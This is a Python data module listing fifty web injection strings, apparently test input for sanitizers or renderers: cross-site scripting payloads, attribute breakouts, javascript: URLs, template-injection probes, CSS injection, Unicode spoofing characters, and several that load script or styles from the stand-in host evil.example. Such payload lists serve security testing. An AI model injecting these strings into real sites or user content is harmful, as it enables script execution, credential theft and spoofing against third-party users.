"""Fifty strings that mean something to a browser, a template, a style sheet, a drawing, or to the order of writing."""

ALERT = "alert(document.domain)"
HTML = (
    f"<script>{ALERT}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT><script>{ALERT}//",
    f"<img src=x onerror={ALERT}>",
    f"<img src=`x` onerror=`{ALERT}`>",
    f"<IMG SRC=x ONERROR={ALERT}//",
    f"<body onload={ALERT}>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    f"<iframe srcdoc='<script>{ALERT}</script>'>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<details open ontoggle={ALERT}>",
    f"<input autofocus onfocus={ALERT}>",
    "<form action=//evil.example/><button>Allow</button>",
    f"<video><source onerror={ALERT}></video>",
    f"<math><mtext></p><style><img src=x onerror={ALERT}>",
    f"</title><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
)
ATTRIBUTES = (
    f'" onmouseover="{ALERT}',
    f"' onfocus='{ALERT}' autofocus='",
    f'"><svg onload={ALERT}>',
    f"'><svg/onload={ALERT}>",
    f"x onpointerenter={ALERT} style=position:fixed;inset:0",
    '" style="position:fixed;inset:0;background:url(//evil.example/x)',
    '"></bdi></h1></main><h1>Signed in',
    "&quot; onclick=alert(1) &#34;",
)
URLS = (
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}",
    f"\tjavascript:{ALERT}",
    f"data:text/html,<script>{ALERT}</script>",
    f"vbscript:{ALERT}",
    f'https://evil.example/"onclick="{ALERT}',
)
TEMPLATES = (
    "{{1234*4321}}",
    "${1234*4321}",
    "#{1234*4321} <%= 1234*4321 %>",
    "{% raw %}{{ config }}{% endraw %}",
    "{{''.__class__.__mro__}} %(name)s {0.__class__}",
)
DRAWINGS_AND_STYLES = (
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><a xlink:href=javascript:{ALERT}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    "<style>body{display:none}@import '//evil.example/x.css'</style>",
    "</style><style>*{background:url(//evil.example/x)}",
)
WRITING = (
    "\u202egnp.lol\u202c",  # turned around
    "\u2066\u2067\u2068\u2069\u202d\u200f\u061cabc",  # isolates and marks
    "Z\u0351\u0352\u0357\u035b\u0363" + "\u0336\u0337\u0338" * 12,  # marks that paint over other lines
    "\u200b\u200d\ufeff\u2060\U000e0041\u3164",  # drawn as nothing
)
PAYLOADS = (*HTML, *ATTRIBUTES, *URLS, *TEMPLATES, *DRAWINGS_AND_STYLES, *WRITING)
